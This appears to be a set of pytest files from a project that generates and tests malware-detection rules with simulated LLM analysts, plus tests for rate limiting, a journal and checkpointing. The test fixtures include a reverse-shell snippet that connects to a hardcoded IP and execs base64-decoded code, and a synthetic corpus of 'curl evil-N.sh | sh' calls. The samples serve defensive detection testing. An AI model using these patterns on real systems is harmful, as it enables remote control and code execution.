            version_blobs={1: "b" * 64, 2: "c" * 64},
            current_version=2,
            namespace="acme",
            created_at=123.0,
        )
        again = SnapshotManifest.from_dict(manifest.to_dict())
        assert again == manifest
        assert again.referenced_blobs() == {"a" * 64, "b" * 64, "c" * 64}
