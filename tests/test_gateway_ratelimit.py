"""Deterministic tests for the gateway's quota and retry primitives.

Every test drives the token bucket / backoff with an injected clock or
sleep recorder — no wall-clock sleeps, no flakiness.
"""

from __future__ import annotations

import asyncio
import math

import pytest

from repro.gateway.ratelimit import (
    Backoff,
    RateLimited,
    TokenBucket,
    retry_sync,
    retry_with_backoff,
)


class FakeClock:
    def __init__(self, start: float = 1000.0) -> None:
        self.now = start

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


class TestTokenBucket:
    def test_burst_up_to_capacity_then_reject(self):
        clock = FakeClock()
        bucket = TokenBucket(capacity=3, refill_per_second=1.0, clock=clock)
        assert bucket.try_acquire() == (True, 0.0)
        assert bucket.try_acquire() == (True, 0.0)
        assert bucket.try_acquire() == (True, 0.0)
        granted, retry_after = bucket.try_acquire()
        assert not granted
        assert retry_after == pytest.approx(1.0)

    def test_retry_after_is_exact_deficit_over_refill(self):
        clock = FakeClock()
        bucket = TokenBucket(capacity=2, refill_per_second=0.5, clock=clock)
        bucket.try_acquire(2)
        granted, retry_after = bucket.try_acquire(1)
        assert not granted
        assert retry_after == pytest.approx(2.0)  # 1 token / 0.5 per s

    def test_refill_restores_tokens_up_to_capacity(self):
        clock = FakeClock()
        bucket = TokenBucket(capacity=2, refill_per_second=1.0, clock=clock)
        bucket.try_acquire(2)
        clock.advance(1.0)
        assert bucket.try_acquire() == (True, 0.0)  # one token refilled
        assert not bucket.try_acquire()[0]
        clock.advance(100.0)  # refill caps at capacity, not 100 tokens
        assert bucket.available == pytest.approx(2.0)
        bucket.try_acquire(2)
        assert not bucket.try_acquire()[0]

    def test_zero_refill_reports_infinite_retry_after(self):
        bucket = TokenBucket(capacity=1, refill_per_second=0.0, clock=FakeClock())
        bucket.try_acquire()
        granted, retry_after = bucket.try_acquire()
        assert not granted and math.isinf(retry_after)

    def test_acquire_or_raise_carries_retry_after(self):
        clock = FakeClock()
        bucket = TokenBucket(capacity=1, refill_per_second=2.0, clock=clock)
        bucket.acquire_or_raise()
        with pytest.raises(RateLimited) as excinfo:
            bucket.acquire_or_raise()
        assert excinfo.value.retry_after == pytest.approx(0.5)

    def test_rejects_bad_parameters(self):
        with pytest.raises(ValueError):
            TokenBucket(capacity=0, refill_per_second=1.0)
        with pytest.raises(ValueError):
            TokenBucket(capacity=1, refill_per_second=-1.0)
        bucket = TokenBucket(capacity=1, refill_per_second=1.0)
        with pytest.raises(ValueError):
            bucket.try_acquire(0)


class TestBackoff:
    def test_exponential_sequence_with_cap(self):
        backoff = Backoff(base=0.1, factor=2.0, max_delay=0.5)
        delays = [backoff.delay(attempt) for attempt in range(1, 6)]
        assert delays == pytest.approx([0.1, 0.2, 0.4, 0.5, 0.5])

    def test_attempt_is_one_based(self):
        with pytest.raises(ValueError):
            Backoff().delay(0)


class TestRetryWithBackoff:
    def test_honours_server_retry_after_when_longer(self):
        waits: list[float] = []

        async def fake_sleep(seconds: float) -> None:
            waits.append(seconds)

        calls = {"n": 0}

        def flaky():
            calls["n"] += 1
            if calls["n"] < 3:
                raise RateLimited("busy", retry_after=1.5)
            return "ok"

        result = asyncio.run(
            retry_with_backoff(
                flaky, attempts=5, backoff=Backoff(base=0.1), sleep=fake_sleep
            )
        )
        assert result == "ok"
        assert waits == pytest.approx([1.5, 1.5])  # retry_after > local backoff

    def test_uses_local_backoff_when_retry_after_is_shorter(self):
        waits: list[float] = []

        async def fake_sleep(seconds: float) -> None:
            waits.append(seconds)

        calls = {"n": 0}

        def flaky():
            calls["n"] += 1
            if calls["n"] < 4:
                raise RateLimited("busy", retry_after=0.01)
            return "ok"

        asyncio.run(
            retry_with_backoff(
                flaky, attempts=5, backoff=Backoff(base=1.0, factor=2.0), sleep=fake_sleep
            )
        )
        assert waits == pytest.approx([1.0, 2.0, 4.0])

    def test_exhausted_attempts_reraise(self):
        async def fake_sleep(seconds: float) -> None:
            pass

        def always_busy():
            raise RateLimited("busy", retry_after=0.1)

        with pytest.raises(RateLimited):
            asyncio.run(
                retry_with_backoff(always_busy, attempts=3, sleep=fake_sleep)
            )

    def test_infinite_retry_after_fails_fast(self):
        waits: list[float] = []

        async def fake_sleep(seconds: float) -> None:
            waits.append(seconds)

        def never():
            raise RateLimited("quota never refills", retry_after=math.inf)

        with pytest.raises(RateLimited):
            asyncio.run(retry_with_backoff(never, attempts=5, sleep=fake_sleep))
        assert waits == []  # no pointless sleeping

    def test_supports_async_callables(self):
        async def coro():
            return 42

        assert asyncio.run(retry_with_backoff(coro)) == 42


class TestRetrySync:
    def test_retries_then_succeeds(self):
        waits: list[float] = []
        calls = {"n": 0}

        def flaky():
            calls["n"] += 1
            if calls["n"] < 2:
                raise RateLimited("busy", retry_after=0.3)
            return "done"

        result = retry_sync(
            flaky, attempts=3, backoff=Backoff(base=0.1), sleep=waits.append
        )
        assert result == "done"
        assert waits == pytest.approx([0.3])

    def test_rate_limited_to_dict_handles_infinity(self):
        assert RateLimited("x", retry_after=math.inf).to_dict()["retry_after"] is None
        assert RateLimited("x", retry_after=1.25).to_dict()["retry_after"] == 1.25
