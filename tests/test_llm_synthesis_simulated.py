"""Tests for rule synthesis, fault injection/repair and the simulated provider."""

import pytest

from repro.llm import protocol
from repro.llm.analysis import CodeAnalyzer
from repro.llm.base import ChatMessage, CompletionRequest
from repro.llm.faults import FaultInjector, RuleRepairer, SEMGREP_FAULTS, YARA_FAULTS
from repro.llm.profiles import GPT_4O, LLAMA_31_70B, ORACLE
from repro.llm.rule_synthesis import (
    merge_semgrep_sources,
    merge_yara_sources,
    rule_name_for,
    synthesize_semgrep,
    synthesize_yara,
)
from repro.llm.simulated import SimulatedAnalystLLM
from repro.semgrepx import compile_yaml
from repro.semgrepx.compiler import try_compile as try_semgrep
from repro.utils.seeding import DeterministicRandom
from repro.yarax import compile_source
from repro.yarax.compiler import try_compile as try_yara

SNIPPET = '''
import socket, os, base64
def backdoor():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("45.137.21.9", 4444))
    os.dup2(s.fileno(), 0)
def hide():
    exec(base64.b64decode("aW1wb3J0IG9z"))
'''


def findings():
    return CodeAnalyzer().analyze_code(SNIPPET).findings


# -- synthesis -------------------------------------------------------------------

def test_rule_name_reflects_dominant_finding():
    name = rule_name_for(findings(), "yara", "abcd1234")
    assert name.startswith("MAL_")
    semgrep_name = rule_name_for(findings(), "semgrep", "abcd1234")
    assert semgrep_name.startswith("detect-")


def test_synthesize_yara_compiles_and_matches_sample():
    rng = DeterministicRandom(1, "syn")
    source = synthesize_yara(findings(), "MAL_test_rule", ORACLE, rng)
    ruleset = compile_source(source)
    assert ruleset.match(SNIPPET), "rule should match the code it was derived from"


def test_synthesize_yara_oracle_has_no_generic_strings():
    rng = DeterministicRandom(2, "syn")
    source = synthesize_yara(findings(), "MAL_oracle_rule", ORACLE, rng)
    assert "requests.get(" not in source
    assert "os.environ" not in source


def test_synthesize_yara_empty_findings_still_valid():
    rng = DeterministicRandom(3, "syn")
    source = synthesize_yara([], "MAL_empty", GPT_4O, rng)
    compile_source(source)


def test_synthesize_semgrep_compiles_and_fires():
    rng = DeterministicRandom(4, "syn")
    yaml_text = synthesize_semgrep(findings(), "detect-test-rule", ORACLE, rng)
    ruleset = compile_yaml(yaml_text)
    from repro.semgrepx import ScanTarget
    assert ruleset.match_target(ScanTarget.from_files("s", [("s.py", SNIPPET)]))


def test_merge_yara_sources_dedupes_strings():
    rng = DeterministicRandom(5, "merge")
    source = synthesize_yara(findings(), "MAL_a", ORACLE, rng)
    merged = merge_yara_sources([source, source], "MAL_merged", ORACLE, rng)
    ruleset = compile_source(merged)
    rule = ruleset.rules[0]
    values = [s.definition.value for s in rule.strings]
    assert len(values) == len(set(values))


def test_merge_semgrep_sources_produces_single_rule():
    rng = DeterministicRandom(6, "merge")
    a = synthesize_semgrep(findings(), "detect-a", ORACLE, rng)
    b = synthesize_semgrep(findings(), "detect-b", ORACLE, rng)
    merged = merge_semgrep_sources([a, b], "detect-merged", ORACLE, rng)
    ruleset = compile_yaml(merged)
    assert ruleset.rule_ids() == ["detect-merged"]


def test_merge_ignores_unparseable_inputs():
    rng = DeterministicRandom(7, "merge")
    merged = merge_yara_sources(["not a rule at all", synthesize_yara(findings(), "MAL_x", ORACLE, rng)],
                                "MAL_merged2", ORACLE, rng)
    compile_source(merged)


# -- fault injection and repair -----------------------------------------------------

@pytest.mark.parametrize("fault", YARA_FAULTS)
def test_yara_faults_break_and_repair_restores(fault):
    rng = DeterministicRandom(8, "fault", fault)
    source = synthesize_yara(findings(), "MAL_fault_target", ORACLE, rng)
    broken = FaultInjector(rng).apply_yara_fault(source, fault)
    ruleset, error = try_yara(broken)
    if ruleset is not None:
        pytest.skip(f"fault {fault} did not break this particular rule")
    repaired = RuleRepairer.repair_yara(broken, error)
    ruleset, error = try_yara(repaired)
    assert ruleset is not None, f"repair failed for {fault}: {error}"


@pytest.mark.parametrize("fault", SEMGREP_FAULTS)
def test_semgrep_faults_break_and_repair_restores(fault):
    rng = DeterministicRandom(9, "fault", fault)
    yaml_text = synthesize_semgrep(findings(), "detect-fault-target", ORACLE, rng)
    broken = FaultInjector(rng).apply_semgrep_fault(yaml_text, fault)
    ruleset, error = try_semgrep(broken)
    if ruleset is not None:
        pytest.skip(f"fault {fault} did not break this particular rule")
    repaired = RuleRepairer.repair_semgrep(broken, error)
    ruleset, error = try_semgrep(repaired)
    assert ruleset is not None, f"repair failed for {fault}: {error}"


# -- simulated provider ---------------------------------------------------------------

def craft_request(rule_format="yara"):
    user = (protocol.section("TASK", protocol.TASK_CRAFT)
            + protocol.section("FORMAT", rule_format)
            + protocol.section("SAMPLE 1", SNIPPET)
            + protocol.section("SAMPLE 2", SNIPPET.replace("backdoor", "sync")))
    return CompletionRequest.from_prompt("You are a senior malware analyst.", user)


def test_simulated_llm_is_deterministic():
    a = SimulatedAnalystLLM(ORACLE, seed=1).complete(craft_request())
    b = SimulatedAnalystLLM(ORACLE, seed=1).complete(craft_request())
    assert a.text == b.text


def test_simulated_llm_seed_changes_output():
    a = SimulatedAnalystLLM(GPT_4O, seed=1).complete(craft_request())
    b = SimulatedAnalystLLM(GPT_4O, seed=2).complete(craft_request())
    assert a.model == b.model == "gpt-4o"
    # outputs may coincide for robust rules but usage accounting always records
    assert a.usage.total_tokens > 0 and b.usage.total_tokens > 0


def test_simulated_llm_oracle_craft_compiles():
    response = SimulatedAnalystLLM(ORACLE).complete(craft_request())
    rule = protocol.extract_rule_from_completion(response.text)
    assert try_yara(rule)[0] is not None


def test_simulated_llm_semgrep_craft():
    response = SimulatedAnalystLLM(ORACLE).complete(craft_request("semgrep"))
    rule = protocol.extract_rule_from_completion(response.text)
    assert try_semgrep(rule)[0] is not None


def test_simulated_llm_weak_profile_produces_more_faults():
    weak_faults = strong_faults = 0
    for seed in range(25):
        weak = SimulatedAnalystLLM(LLAMA_31_70B, seed=seed).complete(craft_request())
        strong = SimulatedAnalystLLM(ORACLE, seed=seed).complete(craft_request())
        weak_faults += try_yara(protocol.extract_rule_from_completion(weak.text))[0] is None
        strong_faults += try_yara(protocol.extract_rule_from_completion(strong.text))[0] is None
    assert strong_faults == 0
    assert weak_faults > 0


def test_simulated_llm_truncates_long_prompts():
    provider = SimulatedAnalystLLM(GPT_4O)
    huge = protocol.section("TASK", "craft") + protocol.section("SAMPLE 1", "x = 1\n" * 120000)
    response = provider.complete(CompletionRequest.from_prompt("sys", huge))
    assert response.truncated_prompt
    assert provider.stats.truncated_requests == 1


def test_simulated_llm_fix_task_repairs_rule():
    provider = SimulatedAnalystLLM(ORACLE)
    broken = 'rule x\n{\n    strings:\n        $a = "v"\n    condition:\n        $a and $missing\n}\n'
    _ruleset, error = try_yara(broken)
    user = (protocol.section("TASK", protocol.TASK_FIX) + protocol.section("FORMAT", "yara")
            + protocol.section("RULE", broken) + protocol.section("ERROR 1", error))
    response = provider.complete(CompletionRequest.from_prompt("fix it", user))
    repaired = protocol.extract_rule_from_completion(response.text)
    assert try_yara(repaired)[0] is not None


def test_chat_message_role_validation():
    with pytest.raises(ValueError):
        ChatMessage("robot", "hello")
