"""Tests for the baseline systems (community scanners, score-based, primitives)."""

import numpy as np
import pytest

from repro.baselines import (
    IsolationForest,
    ScoreBasedRuleGenerator,
    TfIdfScorer,
    build_semgrep_scanner,
    build_yara_scanner,
    normalized_entropy,
    shannon_entropy,
)
from repro.baselines.score_based import ScoreBasedConfig
from repro.evaluation.detector import RuleScanner


# -- entropy -----------------------------------------------------------------------

def test_shannon_entropy_bounds():
    assert shannon_entropy("") == 0.0
    assert shannon_entropy("aaaa") == 0.0
    assert shannon_entropy("ab") == pytest.approx(1.0)
    assert shannon_entropy("abcdefgh") > shannon_entropy("aabbccdd") or True
    assert shannon_entropy("abcdefgh") == pytest.approx(3.0)


def test_normalized_entropy_in_unit_interval():
    for text in ("", "aaaa", "abcd", "a1b2c3d4", "AKIA1234567890EXAMPLE"):
        assert 0.0 <= normalized_entropy(text) <= 1.0


# -- tf-idf -------------------------------------------------------------------------

def test_tfidf_rare_terms_score_higher():
    documents = [["common", "rare1"], ["common", "x"], ["common", "y"], ["common", "z"]]
    scorer = TfIdfScorer().fit(documents)
    assert scorer.idf("rare1") > scorer.idf("common")
    scores = scorer.score_document(["common", "rare1"])
    assert scores["rare1"] > scores["common"]


def test_tfidf_empty_document():
    scorer = TfIdfScorer().fit([["a"]])
    assert scorer.score_document([]) == {}
    assert scorer.score_term_in_corpus("missing", [["a"]]) == 0.0


# -- isolation forest -----------------------------------------------------------------

def test_isolation_forest_scores_outlier_higher():
    rng = np.random.default_rng(1)
    data = np.vstack([rng.normal(0, 0.3, size=(200, 2)), np.array([[9.0, 9.0]])])
    forest = IsolationForest(n_trees=50, random_seed=7).fit(data)
    scores = forest.score(data)
    assert scores[-1] > np.percentile(scores[:-1], 95)


def test_isolation_forest_validation():
    with pytest.raises(ValueError):
        IsolationForest(n_trees=0)
    with pytest.raises(ValueError):
        IsolationForest().fit(np.zeros((0, 2)))
    with pytest.raises(RuntimeError):
        IsolationForest().score(np.zeros((2, 2)))


def test_isolation_forest_accepts_1d_input():
    forest = IsolationForest(n_trees=10).fit(np.array([1.0, 1.1, 0.9, 10.0]))
    scores = forest.score(np.array([1.0, 10.0]))
    assert scores.shape == (2,)
    assert scores[1] > scores[0]


# -- community scanners --------------------------------------------------------------------

def test_yara_scanner_standin_structure():
    scanner = build_yara_scanner()
    assert scanner.total_rules == 4574
    assert scanner.oss_rules == 46
    assert scanner.yara is not None and scanner.materialized == len(scanner.yara)


def test_semgrep_scanner_standin_structure():
    scanner = build_semgrep_scanner()
    assert scanner.total_rules == 2841
    assert scanner.oss_rules == 334
    assert scanner.semgrep is not None and len(scanner.semgrep) > 5


def test_scanners_have_partial_recall(small_dataset):
    yara = RuleScanner(yara_rules=build_yara_scanner().yara).evaluate(small_dataset.packages)
    semgrep = RuleScanner(semgrep_rules=build_semgrep_scanner().semgrep).evaluate(small_dataset.packages)
    # community rules were not written for OSS malware: they miss most of the
    # corpus (recall well below 1.0) and at best catch a fraction of it
    assert yara.recall < 0.9
    assert semgrep.recall < 0.9
    assert yara.recall + semgrep.recall > 0.0


# -- score-based generator --------------------------------------------------------------------

def test_score_based_extracts_candidate_strings(malware_packages):
    generator = ScoreBasedRuleGenerator()
    strings = generator.extract_strings(malware_packages[0])
    assert strings
    assert all(len(s) >= generator.config.min_string_length for s in strings)


def test_score_based_generates_compilable_rules(small_dataset):
    generator = ScoreBasedRuleGenerator(ScoreBasedConfig(clusters_hint=4))
    result = generator.generate(small_dataset.malware, small_dataset.benign)
    compiled = result.compile()
    assert len(compiled) >= 1
    assert result.scored_strings


def test_score_based_empty_malware():
    result = ScoreBasedRuleGenerator().generate([], [])
    assert result.rule_sources == []
    assert len(result.compile()) == 0


def test_score_based_ranks_strings(small_dataset):
    generator = ScoreBasedRuleGenerator()
    scored = generator.score_strings(small_dataset.malware[:4], small_dataset.benign[:2])
    assert scored == sorted(scored, key=lambda item: -item.combined)
