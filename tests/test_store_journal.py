"""Write-ahead journal tests: framing, rotation, replay, torn tails and
mid-stream corruption (`repro.store.journal`)."""

from __future__ import annotations

import json
import struct
import zlib

import pytest

from repro.store.journal import (
    SEGMENT_MAGIC,
    Journal,
    JournalCorruption,
    scan_segment,
)

_FRAME = struct.Struct(">II")


def _journal(tmp_path, **kwargs) -> Journal:
    kwargs.setdefault("durable", False)  # tests don't need real fsyncs
    return Journal(tmp_path / "journal", **kwargs)


class TestAppendReplay:
    def test_epochs_are_monotonic_from_one(self, tmp_path):
        with _journal(tmp_path) as journal:
            assert journal.append("publish", {"version": 1}) == 1
            assert journal.append("activate", {"version": 1}) == 2
            assert journal.append("retire", {"version": 1}) == 3

    def test_replay_round_trips_records(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1, "blob": "abc"})
            journal.append("job-submitted", {"id": "scan-1", "tenant": "acme"})
        with _journal(tmp_path) as journal:
            records = list(journal.replay())
        assert [r.type for r in records] == ["publish", "job-submitted"]
        assert records[0].data == {"version": 1, "blob": "abc"}
        assert records[1].data["tenant"] == "acme"
        assert records[0].epoch == 1 and records[1].epoch == 2

    def test_replay_after_skips_older_epochs(self, tmp_path):
        with _journal(tmp_path) as journal:
            for version in range(1, 6):
                journal.append("publish", {"version": version})
            tail = [r.data["version"] for r in journal.replay(after=3)]
        assert tail == [4, 5]

    def test_unknown_record_type_is_rejected(self, tmp_path):
        with _journal(tmp_path) as journal:
            with pytest.raises(ValueError):
                journal.append("definitely-not-a-type", {})

    def test_records_by_type_filters(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
            journal.append("shard-complete", {"label": "a"})
            journal.append("publish", {"version": 2})
            publishes = journal.records_by_type("publish")
        assert [r.data["version"] for r in publishes] == [1, 2]

    def test_reopen_continues_epoch_sequence(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
            journal.append("publish", {"version": 2})
        with _journal(tmp_path) as journal:
            assert journal.last_epoch == 2
            assert journal.append("publish", {"version": 3}) == 3


class TestRotation:
    def test_rotate_starts_a_new_segment(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
            journal.rotate()
            journal.append("publish", {"version": 2})
            segments = journal.segments()
            assert len(segments) == 2
            replayed = [r.data["version"] for r in journal.replay()]
        assert replayed == [1, 2]

    def test_size_triggered_rotation(self, tmp_path):
        with _journal(tmp_path, segment_max_bytes=256) as journal:
            for version in range(1, 20):
                journal.append("publish", {"version": version, "pad": "x" * 64})
            assert len(journal.segments()) > 1
            replayed = [r.data["version"] for r in journal.replay()]
        assert replayed == list(range(1, 20))

    def test_drop_segments_through_keeps_newer_records(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
            journal.append("publish", {"version": 2})
            journal.rotate()
            journal.append("publish", {"version": 3})
            dropped = journal.drop_segments_through(2)
            assert len(dropped) == 1
            assert [r.data["version"] for r in journal.replay()] == [3]

    def test_drop_never_removes_segment_with_newer_records(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
            journal.append("publish", {"version": 2})  # same segment as epoch 1
            dropped = journal.drop_segments_through(1)
            assert dropped == []
            assert [r.data["version"] for r in journal.replay()] == [1, 2]


class TestTornTail:
    def _segment(self, tmp_path):
        segments = sorted((tmp_path / "journal").glob("segment-*.wal"))
        assert segments
        return segments[-1]

    def test_half_written_frame_is_truncated_on_reopen(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
        path = self._segment(tmp_path)
        intact = path.read_bytes()
        payload = json.dumps({"epoch": 2, "type": "publish", "ts": 0.0,
                              "data": {"version": 2}}).encode()
        frame = _FRAME.pack(len(payload), zlib.crc32(payload)) + payload
        path.write_bytes(intact + frame[: len(frame) // 2])  # torn mid-frame

        with _journal(tmp_path) as journal:
            assert journal.truncated_bytes > 0
            assert [r.data["version"] for r in journal.replay()] == [1]
            # the torn bytes are gone from disk, not just skipped
            assert path.read_bytes() == intact
            # appends continue cleanly where the intact prefix ended
            assert journal.append("publish", {"version": 2}) == 2

    def test_torn_header_only(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
        path = self._segment(tmp_path)
        path.write_bytes(path.read_bytes() + b"\x00\x00")  # 2 of 8 header bytes
        scan = scan_segment(path)
        assert not scan.corrupt
        assert scan.torn_bytes == 2
        assert [r.data["version"] for r in scan.records] == [1]

    def test_bad_checksum_at_exact_tail_counts_as_torn(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
        path = self._segment(tmp_path)
        blob = bytearray(path.read_bytes())
        blob[-1] ^= 0xFF  # flip a payload byte of the final frame
        path.write_bytes(bytes(blob))
        scan = scan_segment(path)
        assert not scan.corrupt
        assert scan.torn_bytes > 0
        assert scan.records == []


class TestCorruption:
    def _segment(self, tmp_path):
        return sorted((tmp_path / "journal").glob("segment-*.wal"))[-1]

    def test_mid_stream_bitflip_raises_on_replay(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
            journal.append("publish", {"version": 2})
        path = self._segment(tmp_path)
        blob = bytearray(path.read_bytes())
        # corrupt the *first* frame's payload: a later intact frame follows,
        # so this cannot be a torn tail
        blob[len(SEGMENT_MAGIC) + _FRAME.size + 2] ^= 0xFF
        path.write_bytes(bytes(blob))
        scan = scan_segment(path)
        assert scan.corrupt
        # attaching to a corrupt tail refuses loudly instead of appending
        # past damage (open_store reports it; fsck is the operator's tool)
        with pytest.raises(JournalCorruption):
            _journal(tmp_path)

    def test_bad_magic_marks_segment_corrupt(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
        path = self._segment(tmp_path)
        path.write_bytes(b"NOPE!\n" + path.read_bytes()[len(SEGMENT_MAGIC):])
        scan = scan_segment(path)
        assert scan.corrupt
        assert "magic" in scan.error

    def test_absurd_length_prefix_is_corruption_not_allocation(self, tmp_path):
        with _journal(tmp_path) as journal:
            journal.append("publish", {"version": 1})
        path = self._segment(tmp_path)
        bogus = _FRAME.pack(2**31, 0)  # claims a 2 GiB frame
        path.write_bytes(path.read_bytes() + bogus + b"tiny")
        scan = scan_segment(path)
        assert scan.corrupt
        assert "claims" in scan.error
