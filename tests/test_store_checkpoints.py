"""Fleet checkpoint tests: shard fingerprints, run keys, reconciliation,
and the orchestrator's kill-and-resume path producing a bit-identical
merged publish (`repro.store.checkpoints`, `repro.api.orchestrator`)."""

from __future__ import annotations

import pytest

from repro.api import (
    GenerationOrchestrator,
    RoundRobinShardPlan,
    RuleLLMConfig,
    RulesetRegistry,
)
from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.store import SimulatedCrash, open_store
from repro.store.checkpoints import (
    FleetCheckpointer,
    fleet_run_key,
    rule_set_from_blob,
    rule_set_to_blob,
    shard_fingerprint,
)
from repro.core.rules import GeneratedRule, GeneratedRuleSet


def _pkg(name: str, content: str) -> Package:
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name),
        files=[PackageFile(path=f"{name}.py", content=content)],
        label="malware",
    )


def _corpus(count: int = 8) -> list[Package]:
    return [
        _pkg(f"mal-{i}", f"import os\nos.system('curl evil-{i}.sh | sh')\n")
        for i in range(count)
    ]


def _ruleset(*names: str) -> GeneratedRuleSet:
    rule_set = GeneratedRuleSet(model="test")
    for name in names:
        rule_set.add(GeneratedRule(
            format="yara",
            name=name,
            text=f'rule {name} {{ strings: $a = "{name}" condition: $a }}',
        ))
    return rule_set


class TestFingerprints:
    def test_shard_fingerprint_is_content_addressed(self):
        packages = _corpus(3)
        first = shard_fingerprint("s0", packages)
        again = shard_fingerprint("s0", [
            _pkg(f"mal-{i}", f"import os\nos.system('curl evil-{i}.sh | sh')\n")
            for i in range(3)
        ])
        assert first == again
        assert shard_fingerprint("s1", packages) != first
        assert shard_fingerprint("s0", packages[:2]) != first

    def test_run_key_covers_every_input(self):
        prints = [("s0", shard_fingerprint("s0", _corpus(2)))]
        base = fleet_run_key("round-robin", "merged", "gpt-4o", 7, prints)
        assert fleet_run_key("cluster", "merged", "gpt-4o", 7, prints) != base
        assert fleet_run_key("round-robin", "stacked", "gpt-4o", 7, prints) != base
        assert fleet_run_key("round-robin", "merged", "other", 7, prints) != base
        assert fleet_run_key("round-robin", "merged", "gpt-4o", 8, prints) != base
        assert fleet_run_key("round-robin", "merged", "gpt-4o", 7, []) != base
        assert fleet_run_key("round-robin", "merged", "gpt-4o", 7, prints) == base

    def test_rule_set_blob_round_trip(self):
        original = _ruleset("alpha", "beta")
        blob = rule_set_to_blob(original)
        again = rule_set_from_blob(blob)
        assert [(r.format, r.name, r.text) for r in again.rules] == \
               [(r.format, r.name, r.text) for r in original.rules]
        assert rule_set_to_blob(again) == blob  # stable, fingerprintable bytes


class TestCheckpointer:
    def test_reconcile_returns_checkpointed_shards(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            checkpointer = FleetCheckpointer(store)
            checkpointer.begin("key-1", plan="round-robin", publish="merged",
                              shard_labels=["s0", "s1"])
            checkpointer.shard_complete("key-1", "s0", _ruleset("alpha"), 0.5)

            state = checkpointer.reconcile("key-1", ["s0", "s1"])
            assert sorted(state.finished) == ["s0"]
            assert sorted(state.missing) == ["s1"]
            assert state.damaged == []
            assert state.merged_epoch is None
            assert state.resumable
            checkpoint = state.finished["s0"]
            assert [r.name for r in checkpoint.rule_set.rules] == ["alpha"]
            assert checkpoint.seconds == 0.5

    def test_reconcile_ignores_other_runs(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            checkpointer = FleetCheckpointer(store)
            checkpointer.begin("key-a", plan="p", publish="merged",
                              shard_labels=["s0"])
            checkpointer.shard_complete("key-a", "s0", _ruleset("alpha"), 0.1)
            state = checkpointer.reconcile("key-b", ["s0"])
            assert state.finished == {}
            assert state.missing == ["s0"]

    def test_damaged_checkpoint_blob_is_rerun_not_served(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            checkpointer = FleetCheckpointer(store)
            checkpointer.begin("key-1", plan="p", publish="merged",
                              shard_labels=["s0"])
            checkpointer.shard_complete("key-1", "s0", _ruleset("alpha"), 0.1)
        for blob in (tmp_path / "store" / "blobs").glob("*/*.blob"):
            blob.write_bytes(b"bitrot")
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            state = FleetCheckpointer(store).reconcile("key-1", ["s0"])
            assert state.finished == {}
            assert state.missing == ["s0"]
            assert state.damaged == ["s0"]

    def test_reconcile_survives_compaction(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            checkpointer = FleetCheckpointer(store)
            checkpointer.begin("key-1", plan="p", publish="merged",
                              shard_labels=["s0", "s1"])
            checkpointer.shard_complete("key-1", "s0", _ruleset("alpha"), 0.1)
            store.compact()
            state = FleetCheckpointer(store).reconcile("key-1", ["s0", "s1"])
            assert list(state.finished) == ["s0"]
            assert state.missing == ["s1"]


class TestOrchestratorResume:
    def _orchestrator(self, store, registry, shards=2, crash_after=None):
        orchestrator = GenerationOrchestrator(
            config=RuleLLMConfig.full(model="gpt-4o", seed=11),
            plan=RoundRobinShardPlan(shards),
            registry=registry,
            max_workers=1,
            store=store,
        )
        if crash_after is not None:
            def crash(label: str, completed: int) -> None:
                if completed >= crash_after:
                    raise SimulatedCrash(f"killed after {label}")
            orchestrator.on_shard_checkpoint = crash
        return orchestrator

    def test_kill_and_resume_is_bit_identical(self, tmp_path):
        corpus = _corpus(8)

        # the uninterrupted reference run
        ref_store, _ = open_store(tmp_path / "ref", durable=False)
        with ref_store:
            reference = self._orchestrator(
                ref_store, RulesetRegistry(store=ref_store)
            ).run(corpus, publish="merged", label="fleet")
        assert reference.version is not None

        # the killed run: first shard checkpoint lands, then the "process" dies
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            with pytest.raises(SimulatedCrash):
                self._orchestrator(
                    store, RulesetRegistry(store=store), crash_after=1
                ).run(corpus, publish="merged", label="fleet")

        # a fresh process resumes: only the missing shard re-runs
        store, report = open_store(tmp_path / "store", durable=False)
        with store:
            assert report.ok
            registry = RulesetRegistry.from_store(store)
            resumed = self._orchestrator(store, registry).run(
                corpus, publish="merged", label="fleet", resume=True
            )
            assert resumed.resumed  # at least one shard came from a checkpoint
            assert resumed.version is not None
            assert resumed.version.cache_key == reference.version.cache_key
            assert rule_set_to_blob(resumed.rule_set) == \
                rule_set_to_blob(reference.rule_set)

    def test_resume_with_nothing_checkpointed_runs_everything(self, tmp_path):
        corpus = _corpus(6)
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            fleet = self._orchestrator(store, RulesetRegistry(store=store)).run(
                corpus, publish="merged", label="fleet", resume=True
            )
            assert fleet.resumed == []
            assert fleet.version is not None

    def test_resume_after_merge_reuses_all_checkpoints(self, tmp_path):
        corpus = _corpus(6)
        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            registry = RulesetRegistry(store=store)
            first = self._orchestrator(store, registry).run(
                corpus, publish="merged", label="fleet"
            )
            # re-running the identical fleet with --resume replays every shard
            # from its checkpoint and republishes deterministically
            again = self._orchestrator(store, registry).run(
                corpus, publish="merged", label="fleet", resume=True
            )
            assert sorted(again.resumed) == sorted(
                run.label for run in first.shard_runs
            )
